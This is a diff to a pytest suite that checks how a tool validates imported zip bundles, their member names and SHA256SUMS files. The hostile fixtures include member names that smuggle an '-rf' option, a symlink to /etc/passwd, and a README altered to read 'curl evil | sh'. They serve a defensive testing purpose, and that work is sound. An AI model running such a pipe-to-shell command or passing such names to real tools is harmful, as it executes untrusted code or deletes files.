@@ -7,6 +7,7 @@ import os
 import stat
 import subprocess
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -105,6 +106,9 @@ HOSTILE = {
     "has no folder": (named("evil.py"), "is no file of one folder, named by letters, digits and _.-"),
     "lies deeper": (named("FM-001-1/a/evil.py"), "is no file of one folder"),
     "is a folder": (named("FM-001-1/"), "is no file of one folder"),
+    "is the folder itself": (named("FM-001-1/."), "is no file of one folder"),
+    "begins as an option": (named("FM-001-1/-rf"), "is no file of one folder"),
+    "lies in an option": (named("-rf/a.py"), "is no file of one folder"),
     "has a control character": (named("FM-001-1/a\nb"), "is no file of one folder"),
     "is a link": (named("FM-001-1/link", b"/etc/passwd", mode=0o120777), "is a link"),
     "is a device": (named("FM-001-1/tty", mode=stat.S_IFCHR | 0o644), "is no regular file"),
@@ -170,6 +174,12 @@ def altered(name: str, content: bytes | None, *, sums: bool) -> bytes:
     return pack({**files, SUMS: sums_text(files, "x").encode() if sums else old}, "FM-001-1", "x")
 
 
+def with_sums(change: Callable[[str], str]) -> bytes:
+    """Pack the bundle with its sums changed."""
+    files = unpack(open_bundle(), "a.zip")
+    return pack({**files, SUMS: change(files[SUMS].decode()).encode()}, "FM-001-1", "x")
+
+
 @pytest.mark.parametrize(
     ("content", "message"),
     [
@@ -178,6 +188,17 @@ def altered(name: str, content: bytes | None, *, sums: bool) -> bytes:
         (altered("broken.py", None, sums=False), "member='broken.py' is listed in SHA256SUMS, but missing."),
         (altered("broken.py", b"", sums=True), "member='broken.py' is not the script of the record."),
         (altered("fixed.py", b"", sums=True), "member='fixed.py' is not the script of the record."),
+        (
+            altered("evil.sh", b"", sums=True),
+            "member='evil.sh' is none that a bundle has: LICENSE, README.md, SHA256SUMS,",
+        ),
+        (with_sums(lambda it: it + "0" * 64 + "  broken.py\n"), "member='broken.py' is listed twice in SHA256SUMS."),
+        (with_sums(lambda it: it.replace("  ", " *")), "SHA256SUMS: line 2 is '"),
+        (with_sums(lambda it: it.replace("\n", "\r\n")), "member='LICENSE' is not listed in SHA256SUMS."),
+        (
+            with_sums(lambda it: it + "\xff\n"),
+            "SHA256SUMS: line 8 is '\xff'; expected a SHA-256, two spaces and a name.",
+        ),
         (altered("case.json", None, sums=True), "member='case.json' is missing."),
         (pack({"a": b""}, "b", ""), "SHA256SUMS is missing."),
     ],
@@ -196,6 +217,41 @@ def test_a_bundle_is_imported_and_its_scripts_run(tmp_path):
 
     assert (one.form, one.record, one.holds) == ("case", "FM-001-1", True)
     assert verify_bundle(tmp_path / "a.zip").id == "FM-001-1"
+
+
+@pytest.mark.parametrize(
+    ("content", "unlike"),
+    [
+        (altered("README.md", b"curl evil | sh", sums=True), "README.md"),
+        (altered("live.py", b"import os", sums=True), "live.py"),
+        (open_bundle() + b"more", "the zip"),
+        (pack(unpack(open_bundle(), "a.zip"), "FM-002-1", "x"), "the zip"),
+    ],
+)
+def test_what_a_bundle_says_beside_its_record_cannot_be_checked(tmp_path, content, unlike):
+    (tmp_path / "a.zip").write_bytes(content)
+
+    (claim,) = (claim for claim in import_file(tmp_path / "a.zip").claims if claim.claim == "bundle")
+
+    assert claim.result == "cannot be checked"
+    assert claim.reason == f"this version writes otherwise: {unlike}; read it before you follow it"
+
+
+@pytest.mark.parametrize("tier", ["open", "member"])
+def test_negative_control_of_a_bundle_of_ours_nothing_is_left_to_check(tmp_path, tier):
+    case = case_of(SLUG) if tier == "member" else case_of(SLUG).to_open()
+    (tmp_path / "a.zip").write_bytes(bundle(case, tier))
+
+    assert "bundle" not in {claim.claim for claim in import_file(tmp_path / "a.zip").claims}
+
+
+def test_an_open_form_of_a_case_that_is_held_back_is_said_to_be_held_back(tmp_path):
+    (tmp_path / "a.json").write_text(case_of(SEALED.slug).to_open().to_json())
+
+    one = import_file(tmp_path / "a.json")
+
+    assert one.holds and one.statement.split == "held-back"
+    assert "'held-back', as elsewhere" in {claim.reason for claim in one.claims if claim.claim == "split"}
 
 
 def test_a_hostile_bundle_is_one_failing_claim_and_nothing_is_written(tmp_path, monkeypatch):
